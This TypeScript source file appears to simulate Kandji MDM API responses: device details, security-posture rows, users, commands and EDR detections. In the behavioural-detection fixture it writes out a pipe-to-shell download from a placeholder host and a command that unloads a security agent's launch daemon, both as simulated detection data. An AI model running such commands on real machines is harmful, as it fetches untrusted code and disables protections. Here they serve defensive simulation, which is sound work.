import { hexId, pick32, uuidFor } from '../../fleet';
import type { KandjiTenant, SimBlueprint, SimCommand, SimDevice } from './tenant';

/**
 * Kandji response bodies in exactly the fixtures' shapes: key names, odd encodings ("True"
 * strings in details, "" for no user) and the two timestamp formats.
 */

const BUILDS: Record<string, string> = { '14.6.1': '23G93', '14.7': '23H124', '15.1': '24B83', '15.2': '24C101', '13.6.9': '22G830', '17.5.1': '21F90' };
const AGENT_VERSION = '4.9.2 (6013)';
const INTEGRATION_ID = 634;

/** `2025-05-20T09:41:07.512344Z`: the agent check-in format. */
export function isoMicros(ms: number): string {
  return new Date(ms).toISOString().replace('Z', `${String(ms % 997).padStart(3, '0')}Z`);
}

/** `2024-02-12 15:03:44.120331+00:00`: the enrollment and details format. */
export function spacedMicros(ms: number): string {
  return isoMicros(ms).replace('T', ' ').replace('Z', '+00:00');
}

const isMac = (d: SimDevice): boolean => d.fleet.platform === 'Mac';

function assetTag(d: SimDevice): string {
  return isMac(d) ? `NW-${String(d.index).padStart(5, '0')}` : '';
}

function tags(d: SimDevice): string[] {
  if (!d.owner) return [];
  return d.posture.filevault ? [d.owner.department.toLowerCase(), 'fv-required'] : [d.owner.department.toLowerCase()];
}

function deviceUser(d: SimDevice): { email: string; name: string; id: string; is_archived: boolean } | '' {
  return d.owner && d.ownerId ? { email: d.owner.email, name: d.owner.name, id: d.ownerId, is_archived: false } : '';
}

/** One item of `GET /api/v1/devices`. */
export function devicePayload(d: SimDevice): Record<string, unknown> {
  const f = d.fleet;
  return {
    device_id: d.id,
    device_name: d.name,
    model: f.model,
    serial_number: f.serial,
    platform: f.platform,
    os_version: f.osVersion,
    supplemental_build_version: BUILDS[f.osVersion] ?? '',
    supplemental_os_version_extra: '',
    last_check_in: isMac(d) ? isoMicros(d.lastCheckInMs) : '',
    user: deviceUser(d),
    asset_tag: assetTag(d),
    blueprint_id: d.blueprint.id,
    mdm_enabled: true,
    agent_installed: isMac(d),
    is_missing: d.missing,
    is_removed: false,
    agent_version: isMac(d) ? AGENT_VERSION : '',
    first_enrollment: spacedMicros(d.enrolledMs),
    last_enrollment: spacedMicros(d.enrolledMs),
    blueprint_name: d.blueprint.name,
    lost_mode_status: d.lostMode ? 'ENABLED' : '',
    tags: tags(d),
  };
}

/** `GET /api/v1/devices/{id}/details`: string booleans, and no SIP, Gatekeeper or firewall. */
export function detailsPayload(d: SimDevice): Record<string, unknown> {
  const f = d.fleet;
  const mac = isMac(d);
  const username = d.owner ? `${d.owner.firstName[0]}${d.owner.lastName}`.toLowerCase() : '';
  const octet = (n: number) => (pick32(f.serial, 'octet', n) % 254) + 1;
  return {
    general: {
      device_id: d.id,
      device_name: d.name,
      last_enrollment: spacedMicros(d.enrolledMs),
      first_enrollment: spacedMicros(d.enrolledMs),
      model: f.model,
      platform: f.platform,
      os_version: f.osVersion,
      supplemental_build_version: BUILDS[f.osVersion] ?? '',
      supplemental_os_version_extra: '',
      system_version: `${f.osVersion} (${BUILDS[f.osVersion] ?? ''})`,
      boot_volume: mac ? 'Macintosh HD' : '',
      time_since_boot: `${(d.index % 9) + 1} days ago`,
      last_user: username,
      asset_tag: assetTag(d),
      assigned_user: deviceUser(d) || null,
      blueprint_name: d.blueprint.name,
      blueprint_uuid: d.blueprint.id,
    },
    mdm: {
      mdm_enabled: 'True',
      supervised: 'True',
      install_date: spacedMicros(d.enrolledMs - 120),
      last_check_in: spacedMicros(d.lastCheckInMs - 175_000),
      mdm_enabled_user: username ? [username] : [],
    },
    activation_lock: {
      bypass_code_failed: false,
      user_activation_lock_enabled: false,
      device_activation_lock_enabled: false,
      activation_lock_allowed_while_supervised: false,
      activation_lock_supported: true,
    },
    filevault: mac
      ? { filevault_enabled: d.posture.filevault, filevault_recoverykey_type: 'Personal', filevault_prk_escrowed: d.posture.filevault, filevault_next_rotation: '', filevault_regen_required: false }
      : { filevault_enabled: null },
    lost_mode: d.lostMode ? { lost_mode_status: 'ENABLED' } : {},
    automated_device_enrollment: { auto_enroll_eligible: true, auto_enrolled: true },
    kandji_agent: mac ? { agent_installed: 'True', install_date: spacedMicros(d.enrolledMs + 360_000).replace(/\.\d+/, ''), last_check_in: isoMicros(d.lastCheckInMs), agent_version: AGENT_VERSION } : { agent_installed: 'False' },
    hardware_overview: {
      model_name: f.model.split(' (')[0],
      model_identifier: f.modelId,
      processor_name: mac ? 'Apple M3 Pro' : '',
      processor_speed: '',
      number_of_processors: '11',
      total_number_of_cores: '11',
      memory: '18 GB LPDDR5',
      udid: uuidFor(f.serial, 'udid'),
      serial_number: f.serial,
    },
    volumes: mac
      ? [
          { name: 'Macintosh HD', format: 'APFS', percent_used: '12%', identifier: 'disk3s3s1', capacity: '494.38 GB', available: '433.01 GB', encrypted: 'No' },
          { name: 'Macintosh HD - Data', format: d.posture.filevault ? 'APFS (Encrypted)' : 'APFS', percent_used: '12%', identifier: 'disk3s1', capacity: '494.38 GB', available: '433.01 GB', encrypted: d.posture.filevault ? 'Yes' : 'No' },
        ]
      : [],
    network: {
      local_hostname: f.hostname,
      mac_address: `02:${hexId(10, f.serial, 'mac').match(/../g)!.join(':')}`,
      ip_address: `192.0.2.${octet(1)}`,
      public_ip: `203.0.113.${octet(2)}`,
    },
    recovery_information: { recovery_lock_enabled: mac, firmware_password_exist: false, firmware_password_pending: false, password_rotation_scheduled: '', password_has_been_set: mac },
    users: {
      regular_users: username ? [{ username, uid: '501', path: `/Users/${username}`, admin: 'No', name: d.owner?.name ?? '' }] : [],
      system_users: [{ username: 'root', uid: '0', path: '/var/root', admin: 'Yes' }],
    },
    installed_profiles: [
      {
        name: 'MDM Profile',
        uuid: uuidFor(f.serial, 'mdm-profile'),
        verified: 'verified',
        identifier: 'com.kandji.profile.mdmprofile',
        organization: 'Kandji, Inc.',
        payload_types: ['com.apple.mdm', 'com.apple.security.scep'],
        install_date: new Date(d.enrolledMs).toISOString().replace('T', ' ').replace(/\.\d+Z$/, ' +0000'),
      },
    ],
    apple_business_manager: {},
    security_information: { remote_desktop_enabled: false },
    cellular: {},
    tags: tags(d),
  };
}

/** The Prism categories the simulator serves. */
export const PRISM_CATEGORIES = ['filevault', 'startup_settings', 'application_firewall', 'gatekeeper_and_xprotect', 'device_information'] as const;
export type PrismCategory = (typeof PRISM_CATEGORIES)[number];

/** One Prism row: the common device columns plus the category's own. */
export function prismRow(t: KandjiTenant, d: SimDevice, category: PrismCategory): Record<string, unknown> {
  const p = d.posture;
  // Object.assign onto a literal, not object spread: spreading 16 keys and adding 8 cost ~10 µs a
  // row in V8, which made Prism the slowest thing the sandbox serves.
  const row = copyCommon(prismCommon(t, d));
  switch (category) {
    case 'filevault':
      return Object.assign(row, { key_escrowed: p.filevault, key_type: 'Personal', last_changed_at: null, regeneration_needed: false, scheduled_key_rotation: null, status: p.filevault });
    case 'startup_settings':
      return Object.assign(row, { any_signed_os: null, bootstrap_token_auth: false, bootstrap_token_escrowed: true, external_boot_level: 'allowed', kext_requires_bst: true, last_changed_at: null, mdm_manages_kext: null, secure_boot_level: p.sip ? 'full' : 'reduced', sip: p.sip, software_update_requires_bst: true, ssv: p.sip, user_manages_kext: null });
    case 'application_firewall':
      return Object.assign(row, { allow_signed_applications: true, block_all_incoming: false, last_changed_at: null, logging: true, logging_option: 'throttled', status: p.firewall, stealth_mode: false, unloading: false, version: '1.7' });
    case 'gatekeeper_and_xprotect':
      return Object.assign(row, { gatekeeper_opaque_version: '94', gatekeeper_status: p.gatekeeper, gatekeeper_version: '8.0', last_changed_at: null, malware_removal_tool_version: '1.93', trusted_developers: true, xprotect_version: '5296' });
    case 'device_information':
      return Object.assign(row, { os_version: d.fleet.osVersion, model: d.fleet.model, last_check_in: isoMicros(d.lastCheckInMs), agent_version: AGENT_VERSION, mdm_enabled: true, supervised: true });
  }
}

/** The device columns every Prism category starts with. */
interface PrismCommon {
  asset_tag: string;
  blueprint_id: string;
  blueprint_name: string;
  count: null;
  device__family: string;
  device__name: string;
  device__user_email: string | null;
  device__user_id: string | null;
  device__user_name: string | null;
  device_id: string;
  model_id: string;
  serial_number: string;
  tags: null;
  created_at: string;
  last_collected_at: string;
  updated_at: string;
}

// Built once per device object: the tenant hands out the same object to the Prism categories
// asked for at one offset, and a changed device is a new object.
const PRISM_COMMON = new WeakMap<SimDevice, PrismCommon>();

function prismCommon(t: KandjiTenant, d: SimDevice): PrismCommon {
  const cached = PRISM_COMMON.get(d);
  if (cached) return cached;
  const collectedMs = t.epochMs - (d.index % 3600) * 1000;
  const common: PrismCommon = {
    asset_tag: assetTag(d),
    blueprint_id: d.blueprint.id,
    blueprint_name: d.blueprint.name,
    count: null,
    device__family: d.fleet.platform,
    device__name: d.name,
    device__user_email: d.owner?.email ?? null,
    device__user_id: d.owner ? String(20000 + d.owner.index) : null,
    device__user_name: d.owner?.name ?? null,
    device_id: d.id,
    model_id: d.fleet.modelId,
    serial_number: d.fleet.serial,
    tags: null,
    created_at: new Date(d.enrolledMs + 1_000_000).toISOString().replace('Z', '+00:00'),
    last_collected_at: new Date(collectedMs).toISOString().replace('Z', '+00:00'),
    updated_at: new Date(collectedMs).toISOString().replace('Z', '+00:00'),
  };
  PRISM_COMMON.set(d, common);
  return common;
}

/** A fresh row with the common columns, in their order. */
function copyCommon(c: PrismCommon): Record<string, unknown> {
  return {
    asset_tag: c.asset_tag,
    blueprint_id: c.blueprint_id,
    blueprint_name: c.blueprint_name,
    count: c.count,
    device__family: c.device__family,
    device__name: c.device__name,
    device__user_email: c.device__user_email,
    device__user_id: c.device__user_id,
    device__user_name: c.device__user_name,
    device_id: c.device_id,
    model_id: c.model_id,
    serial_number: c.serial_number,
    tags: c.tags,
    created_at: c.created_at,
    last_collected_at: c.last_collected_at,
    updated_at: c.updated_at,
  };
}

/** One item of `GET /api/v1/blueprints`. */
export function blueprintPayload(b: SimBlueprint, computersCount: number): Record<string, unknown> {
  return {
    id: b.id,
    name: b.name,
    icon: 'ss-files',
    color: 'aqua-800',
    description: b.type === 'map' ? '' : `Standard build for ${b.name.toLowerCase()}`,
    params: {},
    computers_count: computersCount,
    enrollment_code: { code: b.code, is_active: b.type === 'classic' },
    type: b.type,
  };
}

/** One directory user of `GET /api/v1/users`; about 3% are archived. */
export function userPayload(t: KandjiTenant, j: number): Record<string, unknown> {
  const p = t.fleet.person(j);
  const archived = pick32(t.fleet.seed, 'kandji-archived', j) % 100 < 3;
  const createdMs = t.epochMs - (200 + (j % 400)) * 24 * 3_600_000;
  return {
    active: !archived,
    archived,
    created_at: isoMicros(createdMs),
    department: p.department,
    deprecated_user_id: String(20000 + j),
    // Devices are dealt to people round-robin, so this is the count before any removal.
    device_count: Math.max(0, Math.ceil((t.size - j) / Math.max(1, t.people))),
    email: p.email,
    id: t.userId(j),
    integration: { id: INTEGRATION_ID, name: `${t.fleet.seed}-entra`, type: 'office365', uuid: uuidFor(t.fleet.seed, 'kandji-integration') },
    job_title: p.title,
    name: p.name,
    updated_at: isoMicros(createdMs + 86_400_000),
  };
}

/** One behavioural detection for a device flagged by the tenant scan. */
export function behavioralPayload(t: KandjiTenant, d: SimDevice): Record<string, unknown> {
  const h = pick32(t.fleet.seed, 'kandji-bd-detail', d.index);
  const malicious = h % 3 !== 0;
  const owner = d.owner ? `${d.owner.firstName[0]}${d.owner.lastName}`.toLowerCase() : 'root';
  return {
    blueprint: { id: d.blueprint.id, name: d.blueprint.name },
    classification: malicious ? 'malicious' : 'suspicious',
    description: malicious ? 'Detects removal of a security tool by unloading its Launch Daemon.' : 'Detects a script downloading and executing a remote payload.',
    detection_date: new Date(t.epochMs - (h % 240) * 3_600_000).toISOString().replace('Z', '+00:00'),
    device_info: { id: d.id, name: d.name, serial_number: d.fleet.serial },
    id: uuidFor(t.fleet.seed, 'kandji-bd', d.index).toUpperCase(),
    informational_tags: malicious ? ['exec', 'Disable', 'Launch Daemon', 'unload'] : ['curl', 'exec'],
    library_item: { id: uuidFor(t.fleet.seed, 'kandji-edr'), mal_posture_mode: 'protect', name: 'EDR' },
    malware_family: [],
    parent_process: { command_line: '-zsh', image_path: '/bin/zsh', name: 'zsh', owner, pid: 400 + (h % 100), sha256: hexId(64, 'zsh') },
    rule_version: 10,
    target_process: { command_line: malicious ? 'sudo launchctl unload /Library/LaunchDaemons/com.example.agent.plist' : 'curl -s https://example.net/x | sh', image_path: '/usr/bin/sudo', name: 'sudo', owner: 'root', pid: 5000 + (h % 900), sha256: hexId(64, 'sudo') },
    threat_id: malicious ? 'KTI_BD_0141' : 'KTI_BD_0077',
    threat_status: h % 5 === 0 ? 'blocked' : 'detected',
  };
}

const THREAT_NAMES = ['OSX.AtomicStealer', 'OSX.Adload', 'OSX.Pirrit', 'OSX.Genieo'];
const THREAT_STATUSES = ['QUARANTINED', 'QUARANTINED', 'NOT_QUARANTINED', 'RELEASED'];

/** One threat detail (no id; a naive `detection_date`) for a device flagged by the tenant scan. */
export function threatPayload(t: KandjiTenant, d: SimDevice): Record<string, unknown> {
  const h = pick32(t.fleet.seed, 'kandji-td-detail', d.index);
  const detectedMs = t.epochMs - (h % 300) * 3_600_000;
  const status = THREAT_STATUSES[h % THREAT_STATUSES.length];
  const naive = (ms: number) => isoMicros(ms).replace('Z', '');
  const owner = d.owner ? `${d.owner.firstName[0]}${d.owner.lastName}`.toLowerCase() : 'root';
  return {
    blueprint_id: d.blueprint.id,
    blueprint_name: d.blueprint.name,
    bundle_path: '',
    classification: h % 4 === 3 ? 'PUP' : 'MALWARE',
    date_of_quarantine: status === 'NOT_QUARANTINED' ? '' : naive(detectedMs + 1200),
    date_of_release: status === 'RELEASED' ? naive(detectedMs + 86_400_000) : '',
    detection_date: naive(detectedMs),
    device_id: d.id,
    device_name: d.name,
    device_serial_number: d.fleet.serial,
    file_hash: hexId(64, t.fleet.seed, 'kandji-td-hash', d.index),
    file_path: `/Users/${owner}/Downloads/invoice_viewer.app/Contents/MacOS/invoice_viewer`,
    library_item_id: uuidFor(t.fleet.seed, 'kandji-avert'),
    library_item_name: 'Avert',
    malware_posture: 'protect',
    process_name: 'launchd',
    process_owner: owner,
    pup_posture: 'protect',
    release_note: '',
    released_by: '',
    status,
    threat_name: THREAT_NAMES[h % THREAT_NAMES.length],
  };
}

/** One item of `GET /api/v1/devices/{id}/commands`; status 1 until completed, then 3. */
export function commandPayload(t: KandjiTenant, c: SimCommand, nowMs = Date.now()): Record<string, unknown> {
  const pending = t.isPending(c, nowMs);
  const completedMs = c.requestedMs + t.commandCompleteMs;
  return {
    uuid: c.uuid,
    error_chain: [],
    command_type: c.requestType,
    request_type: c.requestType,
    metadata: {},
    request_requires_network_tether: false,
    status: pending ? 1 : 3,
    attempts: pending ? 0 : 1,
    date_requested: isoMicros(c.requestedMs),
    date_completed: pending ? null : isoMicros(completedMs),
    last_pushed: pending ? null : isoMicros(c.requestedMs + Math.min(400, t.commandCompleteMs)),
    user: null,
    priority: 0,
  };
}
